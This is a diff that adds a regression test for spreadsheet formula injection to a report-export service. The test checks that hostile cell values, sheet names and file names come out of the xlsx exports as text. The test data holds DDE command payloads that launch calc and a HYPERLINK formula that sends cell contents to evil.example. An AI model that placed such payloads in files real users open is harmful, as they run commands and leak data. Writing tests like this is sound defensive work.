@@ -164,3 +164,73 @@ def test_reports_of_other_users_are_not_found(live_stack: Stack, client: ApiClie
     assert r.status_code == 404
     r = stranger.post("/api/reports/summary", json={"document_ids": [document_id]})
     assert r.status_code == 404 and r.json()["error_code"] == "DOCUMENT_NOT_FOUND"
+
+
+HOSTILE_HEADERS = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "금액",
+]
+HOSTILE_SHEET = "=cmd|' -C calc'!A0"
+HOSTILE_UPLOAD_NAME = "=SUM(1+1)*cmd|' -C calc'!A0.xlsx"
+
+
+def _hostile_workbook() -> bytes:
+    """A workbook whose text cells start with formula triggers: stored as text, as an attacker's
+    spreadsheet program would save "'=..." cells, so the service reads them as plain strings."""
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.title = HOSTILE_SHEET
+    rows = [HOSTILE_HEADERS, ["-2+3+cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A3)}", 1000]]
+    rows += [[f"=ROW() item {n}", f"@item {n}", f"+{n}", 100 * n] for n in range(1, 6)]
+    for r, values in enumerate(rows, start=1):
+        for c, value in enumerate(values, start=1):
+            cell = sheet.cell(row=r, column=c, value=value)
+            if isinstance(value, str):
+                cell.data_type = "s"  # openpyxl would otherwise save "=..." as a formula
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def test_hostile_spreadsheet_and_file_name_never_become_formulas(client: ApiClient) -> None:
+    from openpyxl import load_workbook
+
+    r = client.upload_bytes(_hostile_workbook(), HOSTILE_UPLOAD_NAME)
+    assert r.status_code == 202, r.text
+    document_id = r.json()["data"]["id"]
+    assert client.wait_for(document_id)["status"] == "completed"
+    report_id = client.get(f"/api/documents/{document_id}/reports").json()["data"][0]["id"]
+    import json
+
+    report = json.loads(_download(client, document_id, report_id, "json"))
+    assert report["document"]["filename"] == HOSTILE_UPLOAD_NAME
+    (table,) = [t for t in report["tables"] if t["title"].startswith(HOSTILE_SHEET)]
+    assert table["header"] == HOSTILE_HEADERS
+
+    workbook = load_workbook(io.BytesIO(_download(client, document_id, report_id, "xlsx")))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert HOSTILE_UPLOAD_NAME in texts and report["title"] in texts
+    assert {*HOSTILE_HEADERS, "-2+3+cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A3)}", "@item 1"} <= texts
+    table_sheet = workbook.worksheets[3]
+    assert [c.value for c in table_sheet[1]] == HOSTILE_HEADERS and {c.data_type for c in table_sheet[1]} == {"s"}
+    assert table_sheet.title == "=cmd|' -C calc'!A0 A1_D7"  # "A1:D7": ':' is not allowed in sheet names
+    assert table_sheet["D2"].value == 1000 and table_sheet["D2"].data_type == "n"
+
+    summary_title = '=HYPERLINK("http://evil.example","summary")'
+    r = client.post(
+        "/api/reports/summary", params={"format": "xlsx"}, json={"document_ids": [document_id], "title": summary_title}
+    )
+    assert r.status_code == 200, r.text
+    summary = load_workbook(io.BytesIO(r.content))
+    cells = [cell for sheet in summary.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert (summary["Summary"]["A1"].value, summary["Summary"]["A1"].data_type) == (summary_title, "s")
+    documents = next(ws for ws in summary.worksheets if ws.title == "Documents")
+    assert (documents["A2"].value, documents["A2"].data_type) == (HOSTILE_UPLOAD_NAME, "s")
